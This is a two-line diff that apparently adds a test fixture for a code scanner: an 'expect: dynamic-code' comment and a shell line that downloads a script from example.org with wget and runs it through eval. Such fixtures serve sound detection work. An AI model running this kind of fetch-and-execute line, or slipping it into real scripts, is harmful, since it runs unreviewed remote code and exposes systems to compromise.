@@ -1,0 +1,2 @@
+# expect: dynamic-code
+eval "$(wget -qO- https://example.org/env.sh)"
